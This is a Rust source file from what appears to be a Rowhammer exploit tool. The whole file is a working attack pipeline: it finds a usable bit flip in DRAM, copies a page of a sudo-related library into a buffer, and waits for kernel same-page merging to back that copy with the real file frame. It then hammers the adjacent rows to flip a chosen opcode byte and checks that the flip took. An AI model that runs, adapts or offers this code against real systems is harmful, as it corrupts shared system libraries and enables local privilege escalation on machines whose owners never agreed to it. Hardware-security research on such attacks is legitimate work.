//! The sudoers page-corruption pipeline.
//!
//! One region attempt walks six stages: search a template, snapshot the
//! library page and build the aggressor mask, place two copies of the page
//! into the buffer, wait for kernel same-page merging to collapse them onto
//! the file-backed frame, prime the aggressors and hammer, then verify the
//! intended byte flipped. A failure at any stage ends the attempt for the
//! current region only; the orchestrator carries on with the next one.

use std::fs::File;
use std::os::fd::AsRawFd;
use std::os::unix::fs::FileExt;

use crate::config::{HammerConfig, MergeWait};
use crate::hammerer::Hammering;
use crate::mask::build_aggressor_mask;
use crate::memory::{
    BytePointer, DramConfig, Memory, RowNeighbor, VictimBuffer, adjacent_row, row_align,
};
use crate::scanner::BankScanner;
use crate::util::{PAGE_MASK, PAGE_SIZE, ROW_SIZE};
use log::{debug, info};
use serde::Serialize;
use thiserror::Error;

/// Stages of the page-corruption pipeline, in order.
///
/// Failures at [`PageSnapshot`](ExploitStage::PageSnapshot) and
/// [`AwaitMerge`](ExploitStage::AwaitMerge) both map back to
/// [`TemplateSearch`](ExploitStage::TemplateSearch) on the next region.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum ExploitStage {
    /// Scan all banks for a template
    TemplateSearch,
    /// Read the library page, record the opcode byte, build the mask
    PageSnapshot,
    /// Copy the page into the buffer at the victim row and one row earlier
    PagePlacement,
    /// Wait for kernel same-page merging to collapse the copies
    AwaitMerge,
    /// Write the mask into the aggressors, refresh their entropy, hammer
    PrimeAndHammer,
    /// Read the victim byte back and compare
    Verify,
}

/// Errors that end the attempt for the current region.
///
/// Every variant carries the same consequence: the orchestrator moves on to
/// the next region. There is no retry within a region.
#[derive(Debug, Error)]
pub enum RegionError<HE: std::error::Error> {
    /// No exploitable flip was discovered in this region.
    #[error("no usable bit flip found in this region")]
    TemplateNotFound,
    /// The read-back did not show the intended flip.
    #[error("the flip did not reproduce at the template offset")]
    FlipNotReproduced,
    /// Reading the target library or writing the dump failed.
    #[error(transparent)]
    Io(#[from] std::io::Error),
    /// A hammering round failed.
    #[error("hammering failed: {0}")]
    Hammering(HE),
}

/// A verified flip of a library byte.
#[derive(Clone, Copy, Debug, Serialize)]
pub struct VerifiedFlip {
    /// Offset of the flipped byte within the library file
    pub file_offset: usize,
    /// The byte before the flip
    pub original: u8,
    /// The byte after the flip
    pub mutated: u8,
}

/// Drives one region attempt of the sudoers corruption.
pub struct SudoersExploit<'a, H: Hammering> {
    memory: &'a Memory,
    dram: &'a DramConfig,
    config: &'a HammerConfig,
    hammerer: &'a H,
}

impl<'a, H: Hammering> SudoersExploit<'a, H> {
    /// Creates a driver over a freshly filled and entropy-padded region.
    pub fn new(
        memory: &'a Memory,
        dram: &'a DramConfig,
        config: &'a HammerConfig,
        hammerer: &'a H,
    ) -> Self {
        SudoersExploit {
            memory,
            dram,
            config,
            hammerer,
        }
    }

    fn enter(&self, stage: ExploitStage) {
        debug!("entering stage {:?}", stage);
    }

    /// Runs the pipeline to completion for this region.
    ///
    /// # Errors
    ///
    /// Returns a [`RegionError`] naming the reason this region is done; the
    /// caller advances to the next region in every case.
    pub fn run(&self) -> Result<VerifiedFlip, RegionError<H::Error>> {
        self.enter(ExploitStage::TemplateSearch);
        let scanner = BankScanner::new(self.memory, self.dram, self.config, self.hammerer);
        let template = scanner
            .scan_all_banks()
            .map_err(RegionError::Hammering)?
            .ok_or(RegionError::TemplateNotFound)?;
        info!(
            "[+] template at buffer offset {:#x} (library offset {:#x}, bit {})",
            template.offset, template.op.file_offset, template.op.bit_index
        );

        self.enter(ExploitStage::PageSnapshot);
        let file = File::open(&self.config.target_library)?;
        info!("[+] opened {}", self.config.target_library.display());
        let page_start = template.op.file_offset & !PAGE_MASK;
        let mut snapshot = vec![0u8; PAGE_SIZE];
        file.read_exact_at(&mut snapshot, page_start as u64)?;
        let original = snapshot[template.op.page_offset()];
        let mask = build_aggressor_mask(
            self.memory,
            self.dram,
            self.config,
            self.hammerer,
            &template,
            original,
        )
        .map_err(RegionError::Hammering)?;
        // evict the cached page so the file-backed frame is faulted in fresh
        unsafe {
            libc::posix_fadvise(
                file.as_raw_fd(),
                page_start as libc::off_t,
                PAGE_SIZE as libc::off_t,
                libc::POSIX_FADV_DONTNEED,
            )
        };

        self.enter(ExploitStage::PagePlacement);
        let target = template.page_base();
        info!("[+] target page at buffer offset {:#x}", target);
        self.memory.write_page(target, &snapshot);
        // a second identical copy one row earlier raises the merge probability
        self.memory.write_page(target - ROW_SIZE, &snapshot);
        snapshot.fill(0);

        self.enter(ExploitStage::AwaitMerge);
        match self.config.merge_wait {
            MergeWait::Operator => {
                info!(
                    "[+] waiting for same-page merging (at least one full scan); press enter when done"
                );
                let mut line = String::new();
                std::io::stdin().read_line(&mut line)?;
            }
            MergeWait::Sleep(duration) => {
                info!("[+] sleeping {:?} for same-page merging", duration);
                std::thread::sleep(duration);
            }
        }

        self.enter(ExploitStage::PrimeAndHammer);
        let vic = row_align(target, self.dram);
        let agg1 = adjacent_row(vic, RowNeighbor::Previous, self.dram);
        let agg2 = adjacent_row(vic, RowNeighbor::Next, self.dram);
        debug!(
            "victim row {:#x}, aggressors {:#x} / {:#x}",
            vic, agg1, agg2
        );
        self.memory.write_row(agg1, mask.bytes());
        self.memory.write_row(agg2, mask.bytes());
        // the aggressor pages themselves must stay unmergeable
        for row in [agg1, agg2] {
            self.memory.add_entropy_page(row);
            self.memory.add_entropy_page(row + PAGE_SIZE);
        }
        self.hammerer
            .hammer(
                self.memory.addr(agg1),
                self.memory.addr(agg2),
                self.config.num_row_activations,
            )
            .map_err(RegionError::Hammering)?;

        self.enter(ExploitStage::Verify);
        let mutated = self.memory.read_byte(target + template.op.page_offset());
        self.memory.dump_page(target, &self.config.dump_path)?;
        let expected = original ^ template.op.flip_mask();
        if mutated == expected {
            info!(
                "[+] flipped the template byte: {:#04x} -> {:#04x}",
                original, mutated
            );
            Ok(VerifiedFlip {
                file_offset: template.op.file_offset,
                original,
                mutated,
            })
        } else {
            info!(
                "byte at offset {:#x} is {:#04x}, wanted {:#04x}",
                target + template.op.page_offset(),
                mutated,
                expected
            );
            Err(RegionError::FlipNotReproduced)
        }
    }
}
